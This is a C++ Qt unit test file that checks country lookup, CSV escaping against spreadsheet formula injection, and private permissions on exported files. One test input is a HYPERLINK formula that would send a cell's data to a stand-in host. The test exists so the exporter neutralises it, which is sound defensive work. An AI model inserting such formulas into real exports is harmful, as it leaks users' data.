// SPDX-FileCopyrightText: 2026 The KORVANE developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "common/countries.h"
#include "common/csvfield.h"
#include "common/privatefile.h"

#include <QSaveFile>
#include <QTemporaryDir>
#include <QTest>

#include <sys/stat.h>

using namespace Qt::StringLiterals;

class tst_Common : public QObject
{
    Q_OBJECT

private slots:
    void countryFound_data();
    void countryFound();
    void countryTable();
    void csvField_data();
    void csvField();
    void exportMode();
};

void tst_Common::countryFound_data()
{
    QTest::addColumn<QString>("written");
    QTest::addColumn<QString>("cultureCode");

    QTest::newRow("caption") << u"Germany"_s << u"de-DE"_s;
    QTest::newRow("caption, other case and spaces") << u"  sWITZERLAND "_s << u"de-CH"_s;
    QTest::newRow("culture code") << u"fr-be"_s << u"fr-BE"_s;
    QTest::newRow("unknown caption") << u"Italy"_s << QString();
    QTest::newRow("region code is not a name") << u"GB"_s << QString();
    QTest::newRow("empty") << QString() << QString();
}

void tst_Common::countryFound()
{
    QFETCH(QString, written);
    QFETCH(QString, cultureCode);
    const std::optional<Countries::Country> country = Countries::find(written);
    QCOMPARE(country ? QString::fromUtf16(country->cultureCode) : QString(), cultureCode);
}

// The menu's order, culture codes and the numbering plans, as the program has always offered them.
void tst_Common::countryTable()
{
    QStringList rows;
    for (const Countries::Country &c : Countries::all()) {
        rows << u"%1 %2 %3 %4"_s.arg(QLatin1StringView(c.itemName), c.englishName(),
                                     QString::fromUtf16(c.cultureCode), QLatin1StringView(c.regionCode));
    }
    QCOMPARE(rows, QStringList({
                       u"mnuUK UK en-GB GB"_s,
                       u"mnuIreland Ireland en-IE IE"_s,
                       u"mnuAustralia Australia en-AU AU"_s,
                       u"mnuGermany Germany de-DE DE"_s,
                       u"mnuSwitzerland Switzerland de-CH CH"_s,
                       u"mnuAustria Austria de-AT AT"_s,
                       u"mnuFrance France fr-FR FR"_s,
                       u"mnuBelgium Belgium fr-BE BE"_s,
                       u"mnuSpain Spain es-ES ES"_s,
                       u"mnuPortugal Portugal pt-PT PT"_s,
                   }));
    QCOMPARE(QString::fromUtf16(Countries::home().cultureCode), u"en-GB"_s);
}

void tst_Common::csvField_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("field");

    QTest::newRow("plain") << u"Ann"_s << u"Ann"_s;
    QTest::newRow("comma") << u"Smith, Ann"_s << u"\"Smith, Ann\""_s;
    QTest::newRow("quote") << u"Ann \"A\""_s << u"\"Ann \"\"A\"\"\""_s;
    QTest::newRow("formula") << u"=HYPERLINK(\"http://x\"&B2,\"x\")"_s
                             << u"\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"x\"\")\""_s;
    QTest::newRow("plus") << u"+44 7700"_s << u"'+44 7700"_s;
    QTest::newRow("minus") << u"-5 degrees"_s << u"'-5 degrees"_s;
    QTest::newRow("at") << u"@SUM(A1)"_s << u"'@SUM(A1)"_s;
    QTest::newRow("tab") << u"\tx"_s << u"'\tx"_s;
    QTest::newRow("carriage return") << u"\rx"_s << u"\"'\rx\""_s;
    QTest::newRow("apostrophe before a formula") << u"'=1"_s << u"''=1"_s;
    QTest::newRow("apostrophe alone") << u"'tis"_s << u"'tis"_s;
    QTest::newRow("formula sign inside") << u"a=b"_s << u"a=b"_s;
}

void tst_Common::csvField()
{
    QFETCH(QString, value);
    QFETCH(QString, field);
    QCOMPARE(CsvField::written(value), field);
    // What a reader gets out of the field once its quotes are undone comes back as the value.
    QString text = field;
    if (text.startsWith(u'"')) {
        text = text.sliced(1, text.size() - 2);
        text.replace(u"\"\""_s, u"\""_s);
    }
    QCOMPARE(CsvField::read(text), value);
}

void tst_Common::exportMode()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const mode_t oldMask = ::umask(022);
    const QString fresh = dir.filePath(u"fresh.csv"_s);
    const QString existing = dir.filePath(u"existing.csv"_s);
    {
        QFile old(existing);
        QVERIFY(old.open(QIODevice::WriteOnly));
        QVERIFY(old.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ReadGroup | QFile::ReadOther));
    }
    for (const QString &name : {fresh, existing}) {
        QSaveFile file(name);
        QVERIFY(PrivateFile::open(file));
        QVERIFY(file.write("x") == 1);
        QVERIFY(file.commit());
    }
    ::umask(oldMask);
    struct stat info {};
    QCOMPARE(::stat(QFile::encodeName(fresh).constData(), &info), 0);
    QCOMPARE(info.st_mode & 0777, mode_t(0600));
    QCOMPARE(::stat(QFile::encodeName(existing).constData(), &info), 0);
    QCOMPARE(info.st_mode & 0777, mode_t(0644));
}

QTEST_APPLESS_MAIN(tst_Common)
#include "tst_common.moc"
